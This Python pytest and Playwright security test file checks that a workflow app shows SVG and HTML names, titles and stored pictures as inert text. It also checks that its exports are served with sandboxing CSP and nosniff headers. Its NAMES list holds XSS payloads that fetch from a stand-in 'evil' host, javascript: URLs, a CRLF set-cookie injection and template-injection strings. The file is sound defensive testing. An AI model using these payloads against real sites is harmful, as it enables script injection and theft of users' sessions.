"""Names, titles and files that are SVG or HTML: in the app they are text, as files they are sealed."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from starlette.testclient import TestClient

from attacks.listener import listening
from director.agent import ensure_current_thread
from director.runs import RunDependencies, queue_run, save_run_workflow
from director.runs.run_journal import encode_step
from director.runs.values import Run, Step
from director.store import Store
from director.store.run_variables import set_run_variable
from director.web import AppState
from director.workflow.values import Node, Workflow
from web.conftest import client, studio  # noqa: F401  fixtures
from web.pages.conftest import _home, app  # noqa: F401  fixtures
from web.pages.windows import PATIENCE, App
from web.rooms import WORKFLOW

NAMES = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`{evil}/1`)"><script>fetch("{evil}/2")</script></svg>',
    '</title></head><body><script src="{evil}/3"></script>',
    '"><img src="{evil}/4" onerror="document.title=1">',
    "--><script>alert(1)</script><!--",
    '<svg><use href="{evil}/5#x"/><image href="{evil}/6"/></svg>',
    '<svg><style>@import "{evil}/7";</style><foreignObject><iframe src="{evil}/8"></iframe></svg>',
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:alert(1)//",
    "\u202egvs.exe\u202c\u2066\r\nset-cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "{{{{7*7}}}}{{%raw%}}<b>",
)
PAGES = ("/", "/w/{id}", "/w/{id}/runs", "/w/{id}/requests", "/w/{id}/conversations", "/settings")


@pytest.mark.attack(
    "A workflow, its nodes and its variables are named with SVG, HTML and broken titles",
    must="each is shown as the text that it is: nothing runs, nothing is loaded, the title holds",
    tries=10,
)
@pytest.mark.promise("E4")
def test_names_and_titles_are_text_in_every_page(app: App) -> None:  # noqa: F811
    """Every page with every name, in a real browser, beside a server that counts."""
    dialogs: list[str] = []
    with listening() as evil:
        for nth, form in enumerate(NAMES):
            name, id_ = form.format(evil=evil.url), f"svg{nth}"
            node = Node(f"n{nth}", f"a{nth}", "transform", {"code": "1"}, description=name)
            save_run_workflow(app.store, Workflow(id_, name, (node,), description=name))
            ensure_current_thread(app.store, id_)
            set_run_variable(app.store, f"workbench:{id_}", f"v{nth}", name, name)
        page = app.context.new_page()
        page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
        for nth, form in enumerate(NAMES):
            name = form.format(evil=evil.url)
            paths = PAGES if nth == 0 else PAGES[1:3]
            for path in paths:
                page.goto(f"{app.url}{path.format(id=f'svg{nth}')}")
                expect(page.locator("#main")).to_be_attached()
                inside = (
                    "#main svg script, #main script, #main iframe, #main foreignObject, #main use"
                )
                assert page.locator(inside).count() == 0
            page.goto(f"{app.url}/w/svg{nth}")
            assert page.title().split() == f"{name} · Director".split()
        assert evil.asked == []
    assert dialogs == []


@pytest.mark.attack(
    "Files of the app hold SVG and HTML, and are opened as pages: reports, results, exports, "
    "pictures that are none",
    must="an attachment or a picture, sealed by a sandbox, whose type is not guessed",
    tries=40,
)
@pytest.mark.promise("E4")
def test_files_are_sealed_whatever_they_hold(
    store: Store,
    studio: AppState,  # noqa: F811
    client: TestClient,  # noqa: F811
) -> None:
    """By their headers, and by a name that is ours."""
    for nth, form in enumerate(NAMES):
        name, id_ = form.format(evil="http://evil.example"), f"s{nth}"
        save_run_workflow(store, Workflow(id_, name, WORKFLOW.nodes, description=name))
        run = f"r{nth}"
        queue_run(store, Workflow(id_, name, WORKFLOW.nodes), RunDependencies(), id_=run)
        set_run_variable(store, run, "x", name, name)
        paths = [
            f"/api/workflows/{id_}/export",
            f"/api/workflows/{id_}/export?form=archive",
            f"/api/runs/{run}/report",
            f"/api/runs/{run}/results?what=variables&form=csv",
            f"/api/runs/{run}/results?what=variables&form=json",
        ]
        for path in paths:
            answer = client.get(path)
            assert answer.status_code == 200, answer.text
            _sealed(answer.headers)
            assert answer.headers["content-disposition"].startswith('attachment; filename="')
            assert "set-cookie" not in answer.headers
        assert "<script>" not in client.get(paths[2]).text
    for path in ("/api/workflows", "/static/icon.svg", "/api/openapi.json", "/api/none"):
        _sealed(client.get(path).headers)
    assert studio.turns.is_on("w") is False


def _sealed(headers: object) -> None:
    told = dict(headers)  # type: ignore[call-overload]
    assert "sandbox" in told["content-security-policy"]
    assert "default-src 'none'" in told["content-security-policy"]
    assert "allow-" not in told["content-security-policy"]
    assert told["x-content-type-options"] == "nosniff"


@pytest.mark.attack(
    "A step's stored picture is SVG or HTML with a script",
    must="it is served as a bitmap that is none, sealed, and shown nowhere",
    tries=2,
)
@pytest.mark.promise("E4")
def test_a_picture_that_is_none_runs_nothing(app: App) -> None:  # noqa: F811
    """Opened by itself, and as a part of the page of its run."""
    dialogs: list[str] = []
    with listening() as evil:
        for nth, form in enumerate(NAMES[:2]):
            content = form.format(evil=evil.url).encode()
            hash_ = app.store.keep(content)
            id_ = f"pic{nth}"
            save_run_workflow(app.store, Workflow(id_, id_, WORKFLOW.nodes))
            made: Run = queue_run(
                app.store, Workflow(id_, id_, WORKFLOW.nodes), RunDependencies(), id_=id_
            )
            _step(app.store, made, hash_)
            page = app.context.new_page()
            page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
            page.goto(f"{app.url}/w/{id_}/runs/{id_}")
            shown = page.locator(f"img[data-src$='{hash_}']")
            expect(shown).to_have_count(1)
            with page.expect_response(f"**/pictures/{hash_}", timeout=PATIENCE) as answered:
                page.evaluate(
                    "document.querySelectorAll('details').forEach((one) => (one.open = true))"
                )
            headers = answered.value.headers
            assert headers["content-type"] == "image/png"
            _sealed(headers)
            assert shown.get_attribute("src") is None
        assert evil.asked == []
    assert dialogs == []


def _step(store: Store, run: Run, hash_: str) -> None:
    step = Step("n1", "n1", "first", "transform", "finished", screenshot={"$kept": hash_})
    store.put("step", f"{run.id}/n1", encode_step(step), "a test")
